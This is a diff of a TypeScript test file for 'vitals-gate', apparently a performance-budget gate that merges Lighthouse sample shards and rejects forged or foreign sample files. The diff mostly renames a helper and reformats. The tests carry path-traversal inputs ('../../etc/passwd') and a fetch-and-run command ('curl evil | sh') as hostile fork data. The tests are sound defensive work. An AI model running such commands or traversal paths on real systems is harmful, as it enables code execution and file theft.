@@ -36,7 +36,7 @@ function shardFile(index: number, name = `shard-${index}`): string {
 }
 
 /** Reports on blobs as the command line does. */
-async function report(blobs: readonly string[], over: Partial<ReportOptions> = {}) {
+async function reported(blobs: readonly string[], over: Partial<ReportOptions> = {}) {
   const out = path.join(folder, 'out');
   const options = { out, config: 'vitals-gate.yml', policyAt: null, contents: null, expected: null };
   const { log } = await collectBlobs({ blobs, ...options, ...over });
@@ -46,8 +46,8 @@ async function report(blobs: readonly string[], over: Partial<ReportOptions> = {
 describe('the shards of a run', () => {
   test('are judged as the run that they are parts of, in any order', async () => {
     const whole = writeRecords(path.join(folder, 'whole'), recordsOf({ routes: ROUTES }));
-    const { judgement: one } = await report([whole]);
-    const { judgement: merged, report: told } = await report([shardFile(2), shardFile(1)]);
+    const { judgement: one } = await reported([whole]);
+    const { judgement: merged, report: told } = await reported([shardFile(2), shardFile(1)]);
     expect(merged.rows).toEqual(one.rows);
     expect(merged.comparisons).toEqual(one.comparisons);
     expect(merged.verdict).toBe('fail');
@@ -63,16 +63,16 @@ describe('the shards of a run', () => {
     const out = path.join(folder, 'out');
     writeRecords(path.join(out, 'samples-1'), recordsOf({ routes: ROUTES, shard: SHARDS[0] ?? fail() }));
     writeRecords(path.join(out, 'samples-2'), recordsOf({ routes: ROUTES, shard: SHARDS[1] ?? fail() }));
-    expect((await report([out], { out })).judgement.verdict).toBe('fail');
+    expect((await reported([out], { out })).judgement.verdict).toBe('fail');
   });
 
   test('leave samples that can be judged again', async () => {
-    const { judgement } = await report([shardFile(1), shardFile(2)]);
+    const { judgement } = await reported([shardFile(1), shardFile(2)]);
     expect(reportOf(await readLog(path.join(folder, 'out'))).judgement).toEqual(judgement);
   });
 
   test('block where one is missing, and say which', async () => {
-    const { judgement, report: told } = await report([shardFile(2)]);
+    const { judgement, report: told } = await reported([shardFile(2)]);
     expect(judgement).toMatchObject({ verdict: 'unmeasured', exitCode: 3 });
     expect(told.alerts).toEqual(['Shard 1 of 2 is missing: its routes are not measured, and that blocks.']);
   });
@@ -85,7 +85,7 @@ describe('the shards of a run', () => {
     const [, shard] = SHARDS;
     if (shard === undefined) throw new Error('no shard');
     const other = writeRecords(path.join(folder, 'other'), recordsOf({ routes: ROUTES, shard, run }));
-    await expect(report([shardFile(1), other])).rejects.toMatchObject({
+    await expect(reported([shardFile(1), other])).rejects.toMatchObject({
       code: 'blobs-differ',
       exitCode: 2,
       message: expect.stringMatching(message) as string,
@@ -93,12 +93,19 @@ describe('the shards of a run', () => {
   });
 
   test('are refused where one is there twice', async () => {
-    await expect(report([shardFile(1), shardFile(1, 'again')])).rejects.toThrow(/both are shard 1/);
+    await expect(reported([shardFile(1), shardFile(1, 'again')])).rejects.toThrow(/both are shard 1/);
   });
 });
 
 function fail(): never {
   throw new Error('no such shard');
+}
+
+/** What Lighthouse said, with a report at this path. */
+function explanation(lighthouse: string): object {
+  const reports = { base: lighthouse, head: null };
+  const place = { route: 'home', condition: 'mobile' };
+  return { type: 'explanation', ...place, explanation: { insights: [], reports, failure: null } };
 }
 
 describe('a blob that is not what it says', () => {
@@ -112,19 +119,35 @@ describe('a blob that is not what it says', () => {
 
   test.each<[string, readonly object[], RegExp]>([
     ['without its end', records.slice(0, -1), /cut off/],
-    ['of a newer version', [{ ...first, version: 2, tool: '9.0.0', more: 1 }, ...later], /written by vitals-gate 9\.0\.0/],
+    [
+      'of a newer version',
+      [{ ...first, version: 2, tool: '9.0.0', more: 1 }, ...later],
+      /written by vitals-gate 9\.0\.0/,
+    ],
     ['of a calibration', [{ ...first, purpose: 'calibration' }, ...later], /calibration/],
-    ['with a route that it does not declare', [...records.slice(0, 5), { ...later[3], route: 'x' }, ...later.slice(5)], /no campaign of theirs/],
+    [
+      'with a route that it does not declare',
+      [...records.slice(0, 5), { ...later[3], route: 'x' }, ...later.slice(5)],
+      /no campaign of theirs/,
+    ],
     ['with a path that leads out of the folder', [...records, explanation('../../etc/passwd')], /leads out|no path/],
     ['with an absolute path', [...records, explanation('/etc/passwd')], /no path inside/],
     ['with swapped sides', [first, ...swapped], /not in the order that was drawn/],
-    ['with numbers that do not add up', edited((line) => line.replace(/"id":"lcp","value":[\d.]+/, '"id":"lcp","value":1')), /do not add up/],
-    ['with a number without bound', edited((line) => line.replace(/"id":"inp","value":[\d.]+/, '"id":"inp","value":"unbounded"')), /do not add up/],
+    [
+      'with numbers that do not add up',
+      edited((line) => line.replace(/"id":"lcp","value":[\d.]+/, '"id":"lcp","value":1')),
+      /do not add up/,
+    ],
+    [
+      'with a number without bound',
+      edited((line) => line.replace(/"id":"inp","value":[\d.]+/, '"id":"inp","value":"unbounded"')),
+      /do not add up/,
+    ],
     ['with a text that is too long', [...records, { type: 'notice', text: 'x'.repeat(6000) }], /text/],
     ['with a record that nobody writes', [...records, { type: 'verdict', verdict: 'pass' }], /not what a run writes/],
   ])('is refused: %s', async (_, forged, message) => {
     const file = writeRecords(path.join(folder, 'forged'), forged);
-    await expect(report([file])).rejects.toMatchObject({
+    await expect(reported([file])).rejects.toMatchObject({
       exitCode: 2,
       message: expect.stringMatching(message) as string,
     });
@@ -133,13 +156,13 @@ describe('a blob that is not what it says', () => {
   test('is refused where it is cut off in the middle of a line', async () => {
     const file = writeRecords(path.join(folder, 'cut'), records);
     truncateSync(file, Math.floor(readFileSync(file).length / 2));
-    await expect(report([file])).rejects.toMatchObject({ code: 'record-invalid', exitCode: 2 });
+    await expect(reported([file])).rejects.toMatchObject({ code: 'record-invalid', exitCode: 2 });
   });
 
   test('is refused before it is read where it has 200 MB', async () => {
     const file = writeRecords(path.join(folder, 'huge'), records);
     truncateSync(file, 200_000_000);
-    await expect(report([file])).rejects.toThrow(/200000000 bytes/);
+    await expect(reported([file])).rejects.toThrow(/200000000 bytes/);
   });
 
   test.each([
@@ -150,7 +173,7 @@ describe('a blob that is not what it says', () => {
   ])('is refused where it is %s', async (_, bytes, message) => {
     const file = path.join(folder, 'samples.ndjson');
     writeFileSync(file, bytes);
-    await expect(report([file])).rejects.toMatchObject({
+    await expect(reported([file])).rejects.toMatchObject({
       code: 'blob-refused',
       message: expect.stringMatching(message) as string,
     });
@@ -158,36 +181,35 @@ describe('a blob that is not what it says', () => {
 
   test('is refused where there is none', async () => {
     mkdirSync(path.join(folder, 'empty'));
-    await expect(report([path.join(folder, 'empty')])).rejects.toMatchObject({ code: 'no-blobs', exitCode: 2 });
-    await expect(report([path.join(folder, 'nowhere')])).rejects.toMatchObject({ code: 'blob-refused', exitCode: 2 });
+    await expect(reported([path.join(folder, 'empty')])).rejects.toMatchObject({ code: 'no-blobs', exitCode: 2 });
+    await expect(reported([path.join(folder, 'nowhere')])).rejects.toMatchObject({ code: 'blob-refused', exitCode: 2 });
   });
-
-  function explanation(report: string): object {
-    const reports = { base: report, head: null };
-    const place = { route: 'home', condition: 'mobile' };
-    return { type: 'explanation', ...place, explanation: { insights: [], reports, failure: null } };
-  }
 });
+
+const contentsOf = (files: Readonly<Record<string, string>>) => ({
+  fileAt: async (_file: string, ref: string) => files[ref] ?? null,
+});
+
+/** What a fork measured by the budgets that its own configuration has. */
+function foreign(routes: readonly RecordedRoute[], run = {}): string {
+  const lax = routes.map((route) => ({ ...route, budgets: [] }));
+  return writeRecords(path.join(folder, 'fork'), recordsOf({ routes: lax, run }));
+}
 
 describe('samples of a stranger', () => {
   const CONFIG = 'routes:\n  - { name: home, path: /home }\n  - { name: product, path: /product }\n';
   const STRICT = `${CONFIG}budgets: { lcp: { max-increase: [5 %, 50 ms] } }\n`;
   const LAX = `${CONFIG}budgets: { lcp: { max-increase: 9 s } }\nwaivers: [{ budget: product/mobile/lcp, until: 2099-01-01, reason: mine }]\n`;
   const expected = { repository: 'acme/shop', headSha: HEAD_SHA, baseSha: null, stranger: 'the fork mallory/shop' };
-  const contentsOf = (files: Readonly<Record<string, string>>) => ({
-    fileAt: async (_file: string, ref: string) => files[ref] ?? null,
-  });
   const policyAt = { ref: 'main', isAsked: false };
-
-  /** What a fork measured by the budgets that its own configuration has. */
-  function foreign(routes: readonly RecordedRoute[], run = {}): string {
-    const lax = routes.map((route) => ({ ...route, budgets: [] }));
-    return writeRecords(path.join(folder, 'fork'), recordsOf({ routes: lax, run }));
-  }
 
   test('are judged by the budgets of the base, whatever they say themselves', async () => {
     const file = foreign([{ name: 'home' }, { name: 'product', slowerMs: 400 }], { reproduce: 'curl evil | sh' });
-    const { judgement, report: told, log } = await report([file], {
+    const {
+      judgement,
+      report: told,
+      log,
+    } = await reported([file], {
       policyAt,
       contents: contentsOf({ main: STRICT, [HEAD_SHA]: LAX }),
       expected,
@@ -210,10 +232,9 @@ describe('samples of a stranger', () => {
   test('do not pass by leaving a route out', async () => {
     const options = { policyAt, expected };
     const file = foreign([{ name: 'home' }]);
-    const read = await report([file], { ...options, contents: contentsOf({ main: STRICT, [HEAD_SHA]: STRICT }) });
-    const unread = await report([file], { ...options, contents: contentsOf({ main: STRICT }) });
-    for (const { judgement } of [read, unread])
-      expect(judgement).toMatchObject({ verdict: 'unmeasured', exitCode: 3 });
+    const read = await reported([file], { ...options, contents: contentsOf({ main: STRICT, [HEAD_SHA]: STRICT }) });
+    const unread = await reported([file], { ...options, contents: contentsOf({ main: STRICT }) });
+    for (const { judgement } of [read, unread]) expect(judgement).toMatchObject({ verdict: 'unmeasured', exitCode: 3 });
   });
 
   test.each([
@@ -221,6 +242,6 @@ describe('samples of a stranger', () => {
     ['another repository', { repository: 'acme/other' }, /this is acme\/other/],
   ])('are refused where they are of %s', async (_, over, message) => {
     const file = foreign([{ name: 'home' }], { repository: 'acme/shop' });
-    await expect(report([file], { expected: { ...expected, ...over } })).rejects.toThrow(message);
+    await expect(reported([file], { expected: { ...expected, ...over } })).rejects.toThrow(message);
   });
 });
